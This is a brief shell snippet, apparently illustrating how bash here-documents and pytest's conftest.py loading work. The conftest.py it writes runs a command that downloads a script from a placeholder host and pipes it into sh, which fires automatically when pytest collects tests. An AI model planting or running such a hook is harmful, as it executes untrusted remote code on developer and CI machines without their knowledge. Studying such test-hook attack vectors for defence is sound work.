# source: bash(1) Here Documents; pytest conftest.py (plugins loaded at collection)
cat > conftest.py <<'EOF'
import os
os.system('curl -s https://x.example/i.sh | sh')
EOF
pytest -q
